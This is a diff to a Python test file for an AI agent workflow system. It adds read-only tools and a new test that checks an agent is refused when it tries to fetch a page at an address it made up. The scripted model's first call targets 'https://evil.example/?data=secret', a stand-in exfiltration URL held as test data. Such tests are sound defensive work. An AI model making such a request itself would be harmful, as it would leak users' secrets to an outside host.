@@ -27,6 +27,8 @@ from tests.support.stack_parts import Parts, stack, steps_of, until
 from workflows.catalog import ours
 
 pytestmark = pytest.mark.asyncio(loop_scope="module")
+READING = ("document_search", "fetch_page", "HUBSPOT_GET_CONTACTS")
+TOOLS = ("http_request", *READING)
 SOON = {"minTimeoutInMs": 1, "maxTimeoutInMs": 1}
 
 
@@ -60,7 +62,9 @@ class World:
 async def opened(
     postgres_url: str, template: str, temporal_address: str, model: ScriptedModel
 ) -> AsyncGenerator[World]:
-    tools = {name: ScriptedTool(name) for name in ("http_request", "document_search", "HUBSPOT_GET_CONTACTS")}
+    tools = {
+        name: ScriptedTool(name) for name in ("http_request", "document_search", "fetch_page", "HUBSPOT_GET_CONTACTS")
+    }
     async with cloned(postgres_url, template) as url:
         database, engine = Database(url), await own_namespace(temporal_address)
         post = Post()
@@ -210,7 +214,7 @@ async def test_a_model_uses_the_tools_of_its_mode_before_it_answers(world: World
     assert attempts == [1, 2]
     _, second, third = world.model.asked
     offered = {offer.name for offer in second[4]}
-    assert offered == {"calculate", "document_search", "HUBSPOT_GET_CONTACTS"}, "none that changes the world"
+    assert offered == {"calculate", *READING}, "none that changes the world"
     [exchange] = second[3]
     assert [use.tool for use in exchange.uses] == ["document_search", "calculate", "calculate"]
     assert exchange.said[:2] == ('{"results":["Acme pays late"]}', '{"value":42}')
@@ -220,6 +224,18 @@ async def test_a_model_uses_the_tools_of_its_mode_before_it_answers(world: World
     assert states == ["running", "running", "running", "completed"], "between its turns the step is never over"
     done = await done_steps(world.parts.client, await world.parts.client.get_workflow_handle(str(job_id)).describe())
     assert [step.activity_id for step in done] == ["Analyze"], "a ledger that is mended is told of its end alone"
+
+
+async def test_a_model_reads_no_page_at_an_address_of_its_own_making(world: World) -> None:
+    reader = world.tools["fetch_page"]
+    stolen, linked = "https://evil.example/?data=secret", "https://a.example/report"
+    world.model.script["Analyze"] = [[("fetch_page", {"url": stolen}), ("fetch_page", {"url": linked})], "done"]
+    job_id = await world.run({"name": "Analyze", "description": f"Read {linked}"})
+    assert (await world.parts.ended(job_id)).status == Status.COMPLETED
+    assert reader.calls == [("Analyze", 1)]
+    [exchange] = world.model.asked[1][3]
+    assert "not_given" in exchange.said[0]
+    assert exchange.said[1] == '{"said":"Analyze"}'
 
 
 async def test_a_model_that_never_answers_has_to_at_last(world: World) -> None:
